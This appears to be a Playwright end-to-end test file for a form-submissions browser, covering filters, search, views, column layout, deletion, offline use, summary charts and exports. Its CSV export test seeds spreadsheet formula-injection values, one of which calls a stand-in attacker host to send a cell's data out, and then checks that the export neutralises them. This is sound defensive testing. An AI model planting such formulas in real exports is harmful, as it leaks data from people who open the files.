/// <reference lib="dom" />
import { readFileSync } from 'node:fs';
import * as XLSX from '@e965/xlsx';
import { type Locator, type Page } from '@playwright/test';
import { type Submission } from '../electron/shared/api/submission';
import { type Host } from '../electron/host/startHost';
import { callHost } from '../electron/host/testing/callHost';
import { type LocalApi } from '../electron/local-api';
import { connectAccount, expect, serverTotal, tableHoldsAll, test } from './fixtures';

// The local API's demo forms (electron/local-api/demoForms.ts).
const FEEDBACK = { id: 'cFb7q2LxWm', name: 'Customer feedback' };
const EVENT = 'Event registration';
const EVENT_ID = 'evR3gN8tYu';
const QUIZ = 'Product quiz';

/** Connects the fixture's own local API (demo data, with a handle to check the server side). */
async function openSubmissions(app: Page, api: LocalApi): Promise<void> {
  await connectAccount(app, api);
  await app
    .getByRole('navigation', { name: 'Sections' })
    .getByRole('link', { name: 'Submissions' })
    .click();
  await expect(syncState(app)).toBeVisible();
  await expect(grid(app)).toHaveAttribute('data-state', 'ready');
  await tableHoldsAll(app, api, FEEDBACK.id);
}

/** The selected form's sync badge once it says synced. */
const syncState = (app: Page) =>
  app.getByRole('status', { name: 'Sync state' }).locator('[data-state="synced"]');

/** A sync of one form started the way the app's timer starts one, without touching the page. */
async function syncInBackground(app: Page, host: Host | null, formId: string): Promise<void> {
  const input = { formId, mode: 'incremental' };
  if (!host) {
    await app.evaluate(
      (syncInput) =>
        (
          window as unknown as {
            formdesk: { invoke(op: string, input: unknown): Promise<unknown> };
          }
        ).formdesk.invoke('sync.start', syncInput),
      input,
    );
    return;
  }
  expect(await callHost(host, 'sync.start', input)).toMatchObject({ ok: true });
}

async function chooseForm(app: Page, name: string): Promise<void> {
  await app.getByRole('combobox', { name: 'Form' }).fill(name);
  await app.getByRole('option', { name }).click();
  await expect(app.getByRole('heading', { name })).toBeVisible();
  await expect(grid(app)).toHaveAttribute('data-state', 'ready');
}

const grid = (app: Page) => app.getByRole('grid', { name: 'Submissions' });
const dataRows = (app: Page) => grid(app).locator('[role="row"][data-submission-id]');
const resultCount = (app: Page) => app.getByTestId('result-count');
const countText = (n: number) =>
  new RegExp(`^${n.toLocaleString('en-US')} (of [\\d,]+ )?submissions$`);

/** Every submission the service lists for a query, across pages. */
async function serverRows(
  api: LocalApi,
  formId: string,
  params: Record<string, string> = {},
): Promise<Submission[]> {
  const rows: Submission[] = [];
  for (let offset = 0; offset < 100_000; offset += 150) {
    const query = new URLSearchParams({ limit: '150', offset: String(offset), ...params });
    const response = await fetch(`${api.baseUrl}/forms/${formId}/submissions?${query}`, {
      headers: { authorization: `Bearer ${api.apiKey}` },
    });
    const body = (await response.json()) as { totalResponses: number; responses: Submission[] };
    rows.push(...body.responses);
    if (rows.length >= body.totalResponses || body.responses.length === 0) break;
  }
  return rows;
}

/** RFC 4180 cells: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') endCell();
    else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[i + 1] === '\n') i++;
      endCell();
      rows.push(row);
      row = [];
    } else cell += char;
  }
  if (cell || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

test.describe('submissions browser', () => {
  test('filters by status, dates, search, previews and answers as the service does', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const finished = await serverTotal(remoteApi, FEEDBACK.id);
    await expect(resultCount(app)).toHaveText(countText(finished));

    await app.getByRole('tab', { name: /In progress/ }).click();
    await expect(resultCount(app)).toHaveText(
      countText(await serverTotal(remoteApi, FEEDBACK.id, { status: 'in_progress' })),
    );
    await app.getByRole('tab', { name: /Finished/ }).click();
    await expect(resultCount(app)).toHaveText(countText(finished));

    // Date range: submitted after a day in the middle of the data, in the viewer's zone.
    const all = await serverRows(remoteApi, FEEDBACK.id, { sort: 'asc' });
    const middle = all[Math.floor(all.length / 2)];
    if (!middle) throw new Error('the demo form has no submissions');
    const day = middle.submissionTime.slice(0, 10);
    const afterIso = await app.evaluate((d) => new Date(`${d}T00:00:00`).toISOString(), day);
    await app.getByRole('button', { name: /^Date range/ }).click();
    await app.getByLabel('First day', { exact: true }).fill(day);
    await app.keyboard.press('Escape');
    await expect(resultCount(app)).toHaveText(
      countText(all.filter((s) => s.submissionTime > afterIso).length),
    );
    await app.getByRole('button', { name: /^Date range/ }).click();
    await app.getByRole('button', { name: 'Any time' }).click();
    await expect(resultCount(app)).toHaveText(countText(finished));

    // Search: one respondent's e-mail finds exactly their submission, with the match marked.
    const email = middle.questions.find((q) => q.id === 'em02')?.value as string;
    await app.getByRole('textbox', { name: 'Search submissions' }).fill(email);
    await expect(resultCount(app)).toHaveText(
      countText(all.filter((s) => JSON.stringify(s).includes(email)).length),
    );
    await expect(grid(app).locator(`[data-submission-id="${middle.submissionId}"]`)).toBeVisible();
    await expect(grid(app).locator('mark').first()).toBeVisible();
    await app.getByRole('button', { name: 'Clear search' }).click();
    await expect(resultCount(app)).toHaveText(countText(finished));

    // Previews: fetched from the service once asked for, then counted as the service counts them.
    // Nothing narrows the view: the count stands alone, with no "of" beside it.
    await app.getByLabel('Include preview responses').check();
    const withPreviews = await serverTotal(remoteApi, FEEDBACK.id, { includePreview: 'true' });
    await expect(resultCount(app)).toHaveText(
      `${withPreviews.toLocaleString('en-US')} submissions`,
    );
    await app.getByLabel('Include preview responses').uncheck();

    // A per-question filter: the plan is "Team plan".
    await app.getByRole('button', { name: 'Add filter' }).click();
    const editor = app.getByRole('dialog', { name: 'Add filter' });
    await editor.getByRole('combobox', { name: 'Field' }).fill('Which plan');
    await editor.getByRole('option', { name: 'Which plan are you on?' }).click();
    // The form's options are picked, not typed.
    await editor.getByRole('combobox', { name: 'Value' }).click();
    await editor.getByRole('option', { name: 'Team plan' }).click();
    await editor.getByRole('button', { name: 'Add filter' }).click();
    const teamPlan = all.filter((s) =>
      s.questions.some((q) => q.id === 'pr04' && q.value === 'Team plan'),
    ).length;
    await expect(resultCount(app)).toHaveText(countText(teamPlan));
    await expect(dataRows(app).first()).toContainText('Team plan');
    await app.getByRole('button', { name: /^Remove filter/ }).click();
    await expect(resultCount(app)).toHaveText(countText(finished));
  });

  test('keeps dates, presets and headers whole, and says where a search matched out of view', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const header = (name: string) => grid(app).getByRole('columnheader', { name, exact: true });
    const cellUnder = async (row: Locator, name: string) =>
      row.locator(`[aria-colindex="${await header(name).getAttribute('aria-colindex')}"]`);
    const cut = (cell: Locator) => cell.evaluate((el) => el.scrollWidth > el.clientWidth);
    const first = dataRows(app).first();
    for (const column of ['Submitted', 'Last updated']) {
      expect(await cut(await cellUnder(first, column)), `${column} is cut`).toBe(false);
    }

    // A preset keeps its name, also after a reload.
    await app.getByRole('button', { name: /^Date range/ }).click();
    await app.getByRole('button', { name: 'Last 90 days' }).click();
    await expect(app.getByRole('button', { name: 'Date range: Last 90 days' })).toBeVisible();
    await app.reload();
    await expect(app.getByRole('button', { name: 'Date range: Last 90 days' })).toBeVisible();
    await app.getByRole('button', { name: /^Date range/ }).click();
    await app.getByRole('button', { name: 'Any time' }).click();

    const long = 'How likely are you to recommend us to a friend?';
    await header(long)
      .getByRole('button', { name: `Sort by ${long}` })
      .hover();
    await expect(app.getByRole('tooltip')).toHaveText(`${long} · Opinion scale`);

    // A comment, far to the right, matched by words from its middle.
    const rows = await serverRows(remoteApi, FEEDBACK.id);
    const comment = rows
      .map((r) => String(r.questions.find((q) => q.id === 'cm10')?.value ?? ''))
      .find((text) => text.length > 60);
    if (!comment) throw new Error('no long comment in the demo form');
    const needle = comment.slice(40, 52).trim();
    await app.getByRole('textbox', { name: 'Search submissions' }).fill(needle);
    await expect(header('Found in')).toBeVisible();
    const found = dataRows(app).first();
    const foundIn = await cellUnder(found, 'Found in');
    await expect(foundIn).toContainText('Anything else you want to tell us?');
    const mark = foundIn.locator('mark').first();
    await expect(mark).toHaveText(new RegExp(needle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'), 'i'));
    // The mark lies inside the cell, not cut away by its ellipsis.
    const [cellBox, markBox] = [await foundIn.boundingBox(), await mark.boundingBox()];
    expect(markBox!.x + markBox!.width).toBeLessThanOrEqual(cellBox!.x + cellBox!.width);
  });

  test('shows the first rows of a search before its count, then asks again for the count', async ({
    app,
    host,
    remoteApi,
  }) => {
    test.skip(!host, "rewrites the browser-mode bridge's HTTP answers");
    await openSubmissions(app, remoteApi);
    const all = await serverRows(remoteApi, FEEDBACK.id, { sort: 'asc' });
    const matching = all.filter((s) =>
      JSON.stringify(s).toLowerCase().includes('team plan'),
    ).length;
    expect(matching).toBeGreaterThan(1);

    // A cache too small to answer before counting: the host's first answer to this search is made
    // to look like a large cache's, and its second is held until the page has been looked at.
    let asked = 0;
    let releaseCount = () => {};
    const countHeld = new Promise<void>((resolve) => (releaseCount = resolve));
    await app.route('**/rpc/submissions.query', async (route) => {
      const input = route.request().postDataJSON() as { search?: string };
      if (input.search !== 'Team plan') return route.continue();
      asked++;
      if (asked > 1) await countHeld;
      const response = await route.fetch();
      const envelope = (await response.json()) as {
        data: { rows: unknown[]; total: number; counted: boolean; counts: unknown };
      };
      if (asked === 1) {
        expect(envelope.data.counted).toBe(true);
        const firstRows = envelope.data.rows.slice(0, 3);
        envelope.data = {
          ...envelope.data,
          rows: firstRows,
          total: 3,
          counted: false,
          counts: null,
        };
      }
      await route.fulfill({ response, json: envelope });
    });

    await app.getByRole('textbox', { name: 'Search submissions' }).fill('Team plan');
    await expect(resultCount(app)).toHaveText('Counting matches…');
    await expect(dataRows(app)).toHaveCount(3);
    // An export says how many rows it writes: it waits for the count.
    await expect(app.getByRole('button', { name: 'Export' })).toBeDisabled();
    // Asked again while counting (a refresh after a sync may ask too, so at least once more).
    await expect.poll(() => asked).toBeGreaterThanOrEqual(2);
    await expect(
      app.getByRole('tab', { name: /Finished/ }).locator('.mantine-Badge-root'),
    ).toHaveCount(0);
    releaseCount();
    await expect(resultCount(app)).toHaveText(countText(matching));
    await expect(app.getByRole('tab', { name: /Finished/ })).toContainText(
      matching.toLocaleString('en-US'),
    );
    await expect(app.getByRole('button', { name: 'Export' })).toBeEnabled();
  });

  test('sorts by clicking a header, remembers it for the form, and keeps named views', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const [oldest] = await serverRows(remoteApi, FEEDBACK.id, { sort: 'asc' });
    const header = grid(app).getByRole('columnheader', { name: 'Submitted', exact: true });
    await expect(header).toHaveAttribute('aria-sort', 'descending');
    await header.getByRole('button', { name: 'Sort by Submitted' }).click();
    await expect(header).toHaveAttribute('aria-sort', 'ascending');
    await expect(dataRows(app).first()).toHaveAttribute(
      'data-submission-id',
      oldest?.submissionId ?? '',
    );

    const rating = grid(app).getByRole('columnheader', { name: /How satisfied/ });
    await rating.getByRole('button', { name: /^Sort by How satisfied/ }).click();
    await expect(rating).toHaveAttribute('aria-sort', 'ascending');
    await expect(dataRows(app).first().getByLabel('1 of 5 stars')).toBeVisible();

    await app.reload();
    await expect(grid(app)).toHaveAttribute('data-state', 'ready');
    await expect(grid(app).getByRole('columnheader', { name: /How satisfied/ })).toHaveAttribute(
      'aria-sort',
      'ascending',
    );

    // A named view keeps sort and search; resetting and picking it again brings both back.
    const search = app.getByRole('textbox', { name: 'Search submissions' });
    await search.fill('Team plan');
    await expect(grid(app).locator('mark').first()).toBeVisible();
    await app.getByRole('button', { name: 'Views' }).click();
    await app.getByRole('menuitem', { name: 'Save current view…' }).click();
    await app.getByRole('dialog', { name: 'Save view' }).getByLabel('Name').fill('Team by rating');
    await app
      .getByRole('dialog', { name: 'Save view' })
      .getByRole('button', { name: 'Save' })
      .click();
    await app.getByRole('button', { name: 'Views' }).click();
    await app.getByRole('menuitem', { name: 'Reset to default' }).click();
    await expect(search).toHaveValue('');
    await expect(header).toHaveAttribute('aria-sort', 'descending');
    await app.getByRole('button', { name: 'Views' }).click();
    await app.getByRole('menuitem', { name: 'Team by rating' }).click();
    await expect(search).toHaveValue('Team plan');
    await expect(grid(app).getByRole('columnheader', { name: /How satisfied/ })).toHaveAttribute(
      'aria-sort',
      'ascending',
    );
  });

  test('lays out columns: hide, show, reorder, pin and resize, kept after a reload', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const headers = grid(app).getByRole('columnheader');
    const header = (name: string) => grid(app).getByRole('columnheader', { name, exact: true });
    const labels = () =>
      headers.evaluateAll((cells) => cells.map((cell) => cell.getAttribute('aria-label')));

    await header('Phone number')
      .getByRole('button', { name: 'Column options: Phone number' })
      .click();
    await app.getByRole('menuitem', { name: 'Hide column' }).click();
    await expect(header('Phone number')).toHaveCount(0);
    await app.getByRole('button', { name: 'Columns' }).click();
    await app.getByRole('checkbox', { name: 'Phone number' }).check();
    await expect(header('Phone number')).toHaveCount(1);

    await app.getByRole('button', { name: 'Move Email up' }).click();
    await app.keyboard.press('Escape');
    let order = await labels();
    expect(order.indexOf('Email')).toBeLessThan(order.indexOf('Full name'));

    await header('Phone number')
      .getByRole('button', { name: 'Column options: Phone number' })
      .click();
    await app.getByRole('menuitem', { name: 'Pin to the left' }).click();
    order = await labels();
    // The selection's checkboxes and the row actions stay pinned first, whatever else is pinned.
    expect(order.slice(0, 4)).toEqual(['Selected', 'Actions', 'Submitted', 'Phone number']);

    const before = (await header('Full name').boundingBox())?.width ?? 0;
    const handle = (await header('Full name')
      .getByRole('separator', { name: 'Resize Full name' })
      .boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 };
    await app.mouse.move(handle.x + handle.width / 2, handle.y + handle.height / 2);
    await app.mouse.down();
    await app.mouse.move(handle.x + 120, handle.y + handle.height / 2, { steps: 5 });
    await app.mouse.up();
    await expect
      .poll(async () => (await header('Full name').boundingBox())?.width ?? 0)
      .toBeGreaterThan(before + 100);

    await app.reload();
    await expect(grid(app)).toHaveAttribute('data-state', 'ready');
    expect(await labels()).toEqual(order);
    expect((await header('Full name').boundingBox())?.width ?? 0).toBeGreaterThan(before + 100);
  });

  test('opens submissions of every structure, and moves with the keyboard', async ({
    app,
    host,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    await chooseForm(app, EVENT);
    await expect(syncState(app)).toBeVisible();
    await grid(app).focus();
    await app.keyboard.press('j');
    await app.keyboard.press('k');
    await app.keyboard.press('Enter');
    const drawer = app.getByRole('dialog', { name: /^Submission/ });
    await expect(drawer.getByRole('region', { name: 'Answers' })).toBeVisible();
    for (const type of [
      'Address',
      'DateRange',
      'MultiSelect',
      'Signature',
      'LocationCoordinates',
      'ColorPicker',
    ]) {
      await expect(drawer.locator(`[data-question-type="${type}"]`)).toBeVisible();
    }
    // Types read as people say them, not as the service's identifiers.
    const dateRange = drawer.locator('[data-question-type="DateRange"]');
    await expect(dateRange).toContainText('Date range');
    await expect(dateRange).not.toContainText('DateRange');
    await expect(drawer.getByRole('region', { name: 'Scheduling' })).toContainText('When');
    await expect(drawer.getByRole('region', { name: 'Payments' })).toContainText(/[$€£¥]|[A-Z]{3}/);
    await expect(drawer.getByRole('region', { name: 'Calculations' })).toContainText('Party size');
    await expect(drawer.getByRole('region', { name: 'URL parameters' })).toBeVisible();
    const first = await drawer.getByRole('code').first().textContent();
    await drawer.getByRole('button', { name: 'Next submission' }).click();
    await expect(drawer.getByRole('code').first()).not.toHaveText(first ?? '');
    // A newer submission arrives above while the drawer is open: k still steps back to the one
    // before this, not to whatever now sits where that one was.
    const shown = await resultCount(app).textContent();
    await remoteApi.admin.respond(EVENT_ID, { status: 'finished' });
    await syncInBackground(app, host, EVENT_ID);
    await expect(resultCount(app)).not.toHaveText(shown ?? '');
    await app.keyboard.press('k');
    await expect(drawer.getByRole('code').first()).toHaveText(first ?? '');

    await app.keyboard.press('Escape');
    await expect(drawer).toBeHidden();

    await chooseForm(app, QUIZ);
    await dataRows(app).first().click();
    await expect(drawer.getByText('Quiz score')).toBeVisible();
    await expect(drawer.getByText('Login e-mail')).toBeVisible();
    // A question type the app does not know is shown as its JSON, not dropped.
    await expect(drawer.locator('[data-question-type="EmojiReaction"]')).toContainText(
      'Emoji reaction',
    );
  });

  test('draws only the cells in view, within 800 elements wherever a wide form is scrolled', async ({
    app,
    remoteApi,
  }) => {
    // The size the ui benchmark browses at; 800 elements is the budget it holds the table to.
    await app.setViewportSize({ width: 1440, height: 900 });
    await openSubmissions(app, remoteApi);
    await chooseForm(app, EVENT);
    const columns = await grid(app).getByRole('columnheader').count();
    expect(columns).toBeGreaterThan(20);
    for (const at of [0, 0.5, 1]) {
      await grid(app).evaluate(async (table, share) => {
        table.scrollLeft = share * (table.scrollWidth - table.clientWidth);
        table.scrollTop = share * (table.scrollHeight - table.clientHeight);
        // The scroll event, then the frame that draws the rows and columns it brings into view.
        for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
      }, at);
      await expect(grid(app)).toHaveAttribute('aria-busy', 'false');
      await expect(
        grid(app).locator('[role="row"][data-index]:not([data-submission-id])'),
      ).toHaveCount(0);
      const drawn = await grid(app).evaluate((table) => ({
        elements: table.getElementsByTagName('*').length,
        cells: table
          .querySelector('[role="row"][data-submission-id]')
          ?.querySelectorAll('[role="gridcell"]').length,
      }));
      expect(drawn.elements).toBeLessThanOrEqual(800);
      expect(drawn.cells).toBeLessThan(columns / 2);
    }
  });

  test('fetches the edit link on demand and opens it outside the app', async ({
    mode,
    app,
    remoteApi,
  }) => {
    // Electron hands https links to the system browser, where a test cannot follow them.
    test.skip(mode === 'electron', 'external links open in the system browser in Electron');
    await openSubmissions(app, remoteApi);
    const row = dataRows(app).first();
    const submissionId = (await row.getAttribute('data-submission-id')) ?? '';
    await row.click();
    await app
      .context()
      .route(/^https:\/\//, (route) =>
        route.fulfill({ contentType: 'text/html', body: '<title>Edit</title>' }),
      );
    const opened = app.context().waitForEvent('page');
    await app
      .getByRole('dialog', { name: /^Submission/ })
      .getByRole('button', { name: 'Edit link' })
      .click();
    const editPage = await opened;
    await editPage.waitForLoadState();
    expect(editPage.url()).toMatch(new RegExp(`^https://[^/]+/.*${submissionId}`));
    // The service was asked for it once: on the click, not while browsing.
    expect(
      remoteApi.admin.requests().filter((r) => r.query.includeEditLink === 'true'),
    ).toHaveLength(1);
  });

  test('deletes a submission: gone from the table and the service, kept in Activity', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const finished = await serverTotal(remoteApi, FEEDBACK.id);
    const row = dataRows(app).first();
    const submissionId = (await row.getAttribute('data-submission-id')) ?? '';
    await row.getByRole('button', { name: `Delete submission ${submissionId}` }).click();
    const confirm = app.getByRole('dialog', { name: 'Delete this submission?' });
    await expect(confirm).toContainText(submissionId);
    await confirm.getByRole('button', { name: 'Delete submission' }).click();
    await expect(confirm).toBeHidden();
    await expect(grid(app).locator(`[data-submission-id="${submissionId}"]`)).toHaveCount(0);
    await expect(resultCount(app)).toHaveText(countText(finished - 1));
    expect(
      remoteApi.admin.submissionsOf(FEEDBACK.id).some((s) => s.submissionId === submissionId),
    ).toBe(false);

    await app
      .getByRole('navigation', { name: 'Sections' })
      .getByRole('link', { name: 'Activity' })
      .click();
    const entry = app
      .getByRole('table', { name: 'Activity' })
      .locator(`[data-submission-id="${submissionId}"]`);
    await expect(entry).toContainText('Submission deleted');
    await entry.getByRole('button', { name: /^View snapshot/ }).click();
    await expect(app.getByRole('dialog').getByText(submissionId)).toBeVisible();
  });

  test('exports the view to CSV with spreadsheet formulas neutralised', async ({
    mode,
    app,
    remoteApi,
  }) => {
    // The desktop app saves exports through a native dialog, which a test cannot answer.
    test.skip(mode === 'electron', 'exports are delivered by a native save dialog in Electron');
    // The formula cases of fixtures/csv/formula-values.csv, answered by respondents.
    const risky = [
      '=WEBSERVICE("http://attacker.example/?q="&A2)',
      '@NOW()',
      ' =2*2',
      '+7*3',
      '-3*4',
      '\t@cmd',
    ];
    for (const value of risky) {
      await remoteApi.admin.respond(FEEDBACK.id, {
        answers: { nm01: 'Formula Tester', hd14: value, ph03: '-5' },
      });
    }
    await openSubmissions(app, remoteApi);
    await app.getByRole('textbox', { name: 'Search submissions' }).fill('Formula Tester');
    await expect(resultCount(app)).toHaveText(countText(risky.length));

    await app.getByRole('button', { name: 'Export', exact: true }).click();
    const download = app.waitForEvent('download');
    await app.getByRole('menuitem', { name: 'CSV for Excel (UTF-8 with BOM)' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/\.csv$/);
    await expect(app.getByText(`Exported ${risky.length} rows`)).toBeVisible();

    const csv = readFileSync(await file.path(), 'utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const cells = parseCsv(csv.slice(1)).flat();
    // No cell starts with what a spreadsheet would run, past any leading space or tab; plain
    // negative numbers stay numbers.
    expect(
      cells.filter((cell) => /^\s*[=+@]/.test(cell) || /^\s*-(?!\d+(\.\d+)?$)/.test(cell)),
    ).toEqual([]);
    expect(cells).toContain('-5');
    expect(
      cells.some((cell) => cell.includes('=WEBSERVICE("http://attacker.example/?q="&A2)')),
    ).toBe(true);
  });

  test('exports the view as an Excel workbook named after the form, its columns as the table', async ({
    mode,
    app,
    remoteApi,
  }) => {
    test.skip(mode === 'electron', 'exports are delivered by a native save dialog in Electron');
    await openSubmissions(app, remoteApi);
    await app.getByRole('button', { name: 'Export', exact: true }).click();
    const download = app.waitForEvent('download');
    await app.getByRole('menuitem', { name: 'Excel workbook (.xlsx)' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^Customer feedback - \d{4}-\d\d-\d\d\.xlsx$/);
    const book = XLSX.read(readFileSync(await file.path()));
    expect(book.SheetNames).toEqual([FEEDBACK.name]);
    const [header = []] = XLSX.utils.sheet_to_json<string[]>(book.Sheets[FEEDBACK.name]!, {
      header: 1,
    });
    expect(header[0]).toBe('Submitted at');
    expect(header).toContain('Rate each area - Onboarding');
    expect(header).not.toContain('Quiz score');
  });

  test('keeps browsing when the computer goes offline: reads answer from the cache, delete waits, nothing is lost', async ({
    app,
    remoteApi,
  }) => {
    await openSubmissions(app, remoteApi);
    const finished = await serverTotal(remoteApi, FEEDBACK.id);
    const inProgress = await serverTotal(remoteApi, FEEDBACK.id, { status: 'in_progress' });
    await remoteApi.close();
    // What the page sees when the computer loses its network: the desktop app's page still
    // reaches its core, and every read of the cache must still be answered.
    await app.evaluate(() => {
      Object.defineProperty(navigator, 'onLine', { configurable: true, get: () => false });
      window.dispatchEvent(new Event('offline'));
    });

    // Views the page has not read yet, so each is a new read of the cache.
    await app.getByRole('tab', { name: /In progress/ }).click();
    await expect(resultCount(app)).toHaveText(countText(inProgress));
    await app.getByRole('tab', { name: 'Summary' }).click();
    await expect(app.getByTestId('summary-total')).toHaveText(
      `Summary of ${inProgress.toLocaleString('en-US')} submissions`,
    );
    await app.getByRole('tab', { name: 'Table' }).click();
    await app.getByRole('tab', { name: /Finished/ }).click();
    await expect(resultCount(app)).toHaveText(countText(finished));
    await dataRows(app).first().click();
    const drawer = app.getByRole('dialog', { name: /^Submission/ });
    await expect(drawer.getByRole('region', { name: 'Answers' })).toBeVisible();
    await expect(drawer.locator('[data-state="cached"]')).toContainText(
      'This computer is offline: showing the copy saved on this computer',
    );
    // Deleting needs the service: the button stays, disabled, and says why.
    const remove = drawer.getByRole('button', { name: 'Delete…' });
    await expect(remove).toHaveAttribute('aria-disabled', 'true');
    await remove.hover();
    await expect(app.getByRole('tooltip')).toHaveText(
      'This needs the service, and this computer is offline.',
    );
    await remove.click({ force: true });
    await expect(app.getByRole('dialog', { name: 'Delete this submission?' })).toHaveCount(0);
    await expect(resultCount(app)).toHaveText(countText(finished));
  });
});

test.describe('summary', () => {
  /** The Summary tab of the feedback form, once it sums up every finished submission. */
  async function openSummary(app: Page, api: LocalApi) {
    await openSubmissions(app, api);
    const all = await serverRows(api, FEEDBACK.id);
    await app.getByRole('tab', { name: 'Summary' }).click();
    await expect(app.getByTestId('summary-total')).toHaveText(summaryOf(all.length));
    return { all, panel: app.getByTestId('summary-panel') };
  }
  const summaryOf = (n: number) => `Summary of ${n.toLocaleString('en-US')} submissions`;

  test('sums up the view, and a click on an answer narrows the table to exactly those rows', async ({
    app,
    remoteApi,
  }) => {
    const { all, panel } = await openSummary(app, remoteApi);
    const plan = panel.locator('[data-summary-question="pr04"]');
    const proPlan = all.filter((s) =>
      s.questions.some((q) => q.id === 'pr04' && q.value === 'Pro plan'),
    ).length;
    const bar = plan.getByRole('button', { name: /answered “Pro plan”/ });
    await expect(bar).toHaveAccessibleName(
      `Show the ${proPlan} submissions that answered “Pro plan”`,
    );
    // Each bar as long as its count's share of the largest, whatever room its figures take.
    const plans = ['Starter plan', 'Pro plan', 'Team plan', 'Enterprise'];
    const counts = plans.map(
      (name) =>
        all.filter((s) => s.questions.some((q) => q.id === 'pr04' && q.value === name)).length,
    );
    const lengths = await plan
      .locator('[data-summary-bar] [data-bar-fill]')
      .evaluateAll((bars) => bars.map((b) => b.getBoundingClientRect().width));
    expect(lengths).toHaveLength(plans.length);
    lengths.forEach((length, i) =>
      expect(length / Math.max(...lengths), plans[i]).toBeCloseTo(
        counts[i]! / Math.max(...counts),
        1,
      ),
    );

    await bar.click();
    await expect(app.getByRole('button', { name: /^Remove filter/ })).toHaveAccessibleName(
      /Which plan are you on\? is “Pro plan”/,
    );
    await expect(resultCount(app)).toHaveText(countText(proPlan));
    // Every other chart follows the filter: the summary now covers those rows only.
    await expect(app.getByTestId('summary-total')).toHaveText(summaryOf(proPlan));
    // The other plans now have no rows behind them: their bars show 0 and narrow nothing.
    await expect(plan.locator('[data-summary-bar]')).toHaveCount(1);

    // Its numbers and its chart, copied from the chart's menu.
    await app.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await plan.getByRole('button', { name: 'Copy “Which plan are you on?”' }).click();
    await app.getByRole('menuitem', { name: 'Copy the numbers (CSV)' }).click();
    await expect
      .poll(() => app.evaluate(() => navigator.clipboard.readText()))
      .toBe(
        [
          'Answer,Submissions,Share (%)',
          'Starter plan,0,0.0',
          `Pro plan,${proPlan},100.0`,
          'Team plan,0,0.0',
          'Enterprise,0,0.0',
          '',
        ].join('\r\n'),
      );
    await plan.getByRole('button', { name: 'Copy “Which plan are you on?”' }).click();
    await app.getByRole('menuitem', { name: 'Copy the chart as an image' }).click();
    await expect
      .poll(() =>
        app.evaluate(async () => {
          const [item] = await navigator.clipboard.read();
          return item?.types ?? [];
        }),
      )
      .toContain('image/png');

    await app.getByRole('tab', { name: 'Table' }).click();
    await expect(grid(app)).toHaveAttribute('data-state', 'ready');
    await expect(resultCount(app)).toHaveText(countText(proPlan));
    await expect(dataRows(app).first()).toContainText('Pro plan');
  });

  test('a click on a bar of the timeline narrows the table to that bucket of time', async ({
    app,
    remoteApi,
  }) => {
    const { all, panel } = await openSummary(app, remoteApi);
    const title = panel.getByRole('heading', { name: /^Submissions per (day|week|month)$/ });
    const bucket = (await title.textContent())!.replace('Submissions per ', '') as
      'day' | 'week' | 'month';
    const segment = panel
      .getByRole('button', {
        name: /^Show the submissions of .* \([1-9][\d,]* finished submissions?\)$/,
      })
      .last();
    const start = (await segment.getAttribute('data-timeline-bucket'))!;
    // The bucket's times, worked out here from the service's own listing (UTC, weeks from Monday).
    const from = new Date(`${start}T00:00:00Z`);
    const to = new Date(from);
    if (bucket === 'day') to.setUTCDate(to.getUTCDate() + 1);
    else if (bucket === 'week') to.setUTCDate(to.getUTCDate() + 7);
    else to.setUTCMonth(to.getUTCMonth() + 1);
    const inBucket = all.filter((s) => {
      const time = Date.parse(s.submissionTime);
      return time >= from.getTime() && time < to.getTime();
    });
    expect(inBucket.length).toBeGreaterThan(0);
    expect(inBucket.length).toBeLessThan(all.length);

    await segment.click();
    await expect(resultCount(app)).toHaveText(countText(inBucket.length));
    await expect(app.getByTestId('summary-total')).toHaveText(summaryOf(inBucket.length));
    // A few submissions a bucket are still counted in whole submissions on the charts' axes.
    const ticks = panel.locator('.recharts-cartesian-axis-tick-value[orientation="left"]');
    await expect(ticks.first()).toBeVisible();
    expect((await ticks.allTextContents()).filter((tick) => !/^\d[\d,]*$/.test(tick))).toEqual([]);
    await app.getByRole('tab', { name: 'Table' }).click();
    await expect(grid(app)).toHaveAttribute('data-state', 'ready');
    const shown = await dataRows(app).evaluateAll((rows) =>
      rows.map((row) => row.getAttribute('data-submission-id')),
    );
    const ids = new Set(inBucket.map((s) => s.submissionId));
    expect(shown.length).toBeGreaterThan(0);
    expect(shown.filter((id) => !ids.has(id!))).toEqual([]);
  });
});
